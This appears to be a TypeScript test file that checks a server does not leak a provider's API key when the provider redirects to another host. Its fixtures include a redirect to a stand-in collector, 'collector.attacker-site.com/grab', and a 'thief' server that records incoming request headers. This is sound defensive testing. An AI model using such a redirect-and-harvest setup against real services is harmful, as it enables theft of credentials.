import type { IncomingHttpHeaders } from 'node:http';
import { loopbackSite, type LoopbackSite } from '../fixtures';
import { enrich, startServer, type ServerProcess } from './serverProcess';

/**
 * Finding 4: the provider's API key followed a 302 to another host. The provider adapter now
 * refuses cross-origin redirects (PROVIDER_CROSS_ORIGIN_REDIRECTS=off, the default); when they are
 * allowed, the key is dropped at the origin boundary.
 */
describe('a provider that redirects to another host (server process on loopback)', () => {
  const PROVIDER_KEY = 'provider-secret-key-0000';
  let provider: LoopbackSite;
  let thief: LoopbackSite;
  const stolen: IncomingHttpHeaders[] = [];

  beforeAll(async () => {
    provider = await loopbackSite((req, res) => res.writeHead(302, { Location: `https://collector.attacker-site.com/grab${req.url ?? ''}` }).end());
    thief = await loopbackSite((req, res) => {
      stolen.push(req.headers);
      res.writeHead(200, { 'Content-Type': 'application/json' }).end('{"status":200,"likelihood":9,"data":{"job_title":"planted"}}');
    });
  });
  afterAll(async () => {
    await Promise.all([provider.close(), thief.close()]);
  });

  const serverWith = (extra: Record<string, string>) =>
    startServer({
      WEB_LOOKUPS: 'on',
      DNS_SERVERS: '127.0.0.1:9',
      PROVIDER_URL: 'https://provider-api.com',
      PROVIDER_KEY,
      OUTBOUND_TEST_TARGETS: `provider-api.com=${provider.origin},collector.attacker-site.com=${thief.origin}`,
      ...extra,
    });

  it('refuses the redirect: nothing reaches the other host, the answer carries a provider warning', async () => {
    const server: ServerProcess = await serverWith({});
    try {
      stolen.length = 0;
      const res = await enrich(server.origin, { email: 'someone@gmail.com', enrich: ['title'] });
      const body = (await res.json()) as { title: unknown; meta: { warnings: Array<{ source: string }> } };
      expect(res.status).toBe(200);
      expect(body.title).toBeNull();
      expect(body.meta.warnings).toContainEqual(expect.objectContaining({ source: 'provider' }));
      expect(stolen).toHaveLength(0);
    } finally {
      await server.stop();
    }
  }, 30_000);

  it('when cross-origin redirects are allowed, follows them without the key', async () => {
    const server: ServerProcess = await serverWith({ PROVIDER_CROSS_ORIGIN_REDIRECTS: 'on' });
    try {
      stolen.length = 0;
      const res = await enrich(server.origin, { email: 'someone@gmail.com', enrich: ['title'] });
      expect(res.status).toBe(200);
      expect(stolen.length).toBeGreaterThan(0);
      for (const headers of stolen) {
        expect(headers['x-api-key']).toBeUndefined();
        expect(JSON.stringify(headers)).not.toContain(PROVIDER_KEY);
      }
    } finally {
      await server.stop();
    }
  }, 30_000);
});
